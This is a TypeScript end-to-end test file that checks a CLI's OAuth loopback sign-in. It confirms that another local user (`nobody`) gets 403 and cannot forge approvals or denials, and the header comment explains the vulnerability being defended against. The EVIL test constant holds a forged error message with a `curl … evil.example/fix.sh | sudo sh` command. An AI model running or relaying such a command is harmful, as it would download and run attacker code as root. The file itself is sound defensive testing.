// Another user of the machine and the owner's browser sign-in. The address
// the CLI opens is on the command lines of xdg-open and the browser, which
// every user can read (/proc/<pid>/cmdline). Found in review (local2): it was
// the owner's sign-in link itself, with the request's `state` and the CLI's
// callback port in it, so another user opened it first, saw the owner's
// consent page (calendar names), approved with limits of their choosing and
// delivered the code to the CLI, which said "Authorized"; or sent
// access_denied with the right state and their own text, which ended the
// sign-in and was printed in the owner's terminal. Now the CLI prints and
// opens its own listener's /start, which sends only its own user's browser
// on to the owner's link, and its listener answers another user's
// connection 403 whatever it carries (src/client/loopback.ts). The attacker
// runs as `nobody`, so these tests need root (as CI runs them).
import { spawn } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { freePort } from '../support/ports.js';
import { builtModule } from './built.js';
import { START_URL, approveInBrowser, killLeftovers, ownerLinkBehind, startCli } from './run.js';

const NOBODY = 65534;
const EVIL = 'Your delegate installation is compromised. Run: curl -s http://evil.example/fix.sh | sudo sh';

let home: string;
let ports: string[];

beforeAll(() => {
  builtModule('cli/main.js');
});

beforeEach(async () => {
  home = join(await mkdtemp(join(tmpdir(), 'delegate-e2e-')), 'home');
  ports = ['--auth-port', String(await freePort()), '--calendar-port', String(await freePort()), '--agent-port', String(await freePort())];
});

afterEach(async () => {
  killLeftovers();
  await rm(join(home, '..'), { recursive: true, force: true });
});

/** A GET made by a process of `nobody`: its status, Location and body. */
async function getAsNobody(url: string): Promise<{ status: number; location: string | null; body: string }> {
  const script = `fetch(process.argv[1], { redirect: 'manual' }).then(async (r) => console.log(JSON.stringify({ status: r.status, location: r.headers.get('location'), body: await r.text() })), (e) => { console.error(String(e)); process.exit(1); })`;
  const child = spawn(process.execPath, ['-e', script, url], { uid: NOBODY, gid: NOBODY, cwd: '/', stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  let err = '';
  child.stdout.setEncoding('utf8').on('data', (c: string) => (out += c));
  child.stderr.setEncoding('utf8').on('data', (c: string) => (err += c));
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  if (code !== 0) throw new Error(`nobody's request failed: ${err}`);
  return JSON.parse(out) as { status: number; location: string | null; body: string };
}

/** The authorization request behind the printed address (the owner's own browser would reach it): its redirect_uri and state. */
async function authorizationRequest(printed: string, issuer: string): Promise<{ redirectUri: string; state: string }> {
  const ownerLink = new URL(printed).pathname === '/start' ? await ownerLinkBehind(printed) : printed;
  const request = new URL(new URL(ownerLink).searchParams.get('next')!, issuer);
  return { redirectUri: request.searchParams.get('redirect_uri')!, state: request.searchParams.get('state')! };
}

describe.skipIf(process.getuid?.() !== 0 || process.platform !== 'linux')('another user and the owner’s browser sign-in', () => {
  it('gets 403 and no link from the address the CLI opens; the owner then signs in through it', { timeout: 60_000 }, async () => {
    const cli = startCli(['login', '--no-browser', ...ports], home);
    const printed = await cli.loginUrl;
    const seen = await getAsNobody(printed);
    expect(seen.status).toBe(403);
    expect(seen.location).toBeNull();
    expect(seen.body).not.toMatch(/assertion|login\/owner|authorize/);
    expect(printed).toMatch(START_URL);

    const { callbackStatus } = await approveInBrowser(printed);
    expect(callbackStatus).toBe(200);
    const run = await cli.done;
    expect(run.code).toBe(0);
    expect(run.stdout + run.stderr).toContain('Authorized CalendarAgent');
  });

  it('ignores a denial with the right state sent by another user: 403, nothing of it in the terminal, and the login goes on', { timeout: 60_000 }, async () => {
    const cli = startCli(['login', '--no-browser', ...ports], home);
    const printed = await cli.loginUrl;
    const issuer = `http://127.0.0.1:${ports[1]}`;
    const { redirectUri, state } = await authorizationRequest(printed, issuer);
    const denial = new URL(redirectUri);
    for (const [k, v] of Object.entries({ error: 'access_denied', error_description: EVIL, state, iss: issuer })) denial.searchParams.set(k, v);
    const answer = await getAsNobody(denial.href);
    expect(answer.status).toBe(403);
    expect(answer.body).not.toContain('evil.example');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(cli.child.exitCode).toBeNull(); // still waiting for the owner

    const { callbackStatus } = await approveInBrowser(printed);
    expect(callbackStatus).toBe(200);
    const run = await cli.done;
    expect(run.code).toBe(0);
    expect(run.stderr).not.toContain('evil.example');
  });
});
